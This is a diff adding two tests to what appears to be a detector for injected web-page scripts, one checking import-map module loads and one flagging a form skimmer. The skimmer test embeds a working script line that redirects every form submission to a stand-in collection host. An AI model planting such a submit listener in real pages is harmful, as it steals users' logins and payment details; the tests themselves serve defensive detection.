@@ -109,3 +109,19 @@ def test_an_inline_loader_seen_in_the_trusted_captures_raises_nothing() -> None:
     for day in range(3):
         det.learn_trusted(part, page(news_page(day, body_extra=script)))
     assert det.detect(part, page(news_page(9, body_extra=script))) == []
+
+
+def test_an_import_map_loads_the_addresses_it_maps_module_names_to() -> None:
+    script = (
+        '<script type="importmap">{"imports": {"app-shell": "https://mods.heliotrope.example/a.mjs"}}</script>'
+        '<script type="module">import "app-shell";</script>'
+    )
+    assert ("https://mods.heliotrope.example/a.mjs", PLAIN) in loads(script)
+
+
+def test_a_submit_listener_that_points_the_form_elsewhere_is_a_skimmer() -> None:
+    script = (
+        "<script>document.addEventListener('submit',function(e){"
+        "e.target.action='https://collect.heliotrope.example/in';},true);</script>"
+    )
+    assert ("https://collect.heliotrope.example/in", SKIMMER) in loads(script)
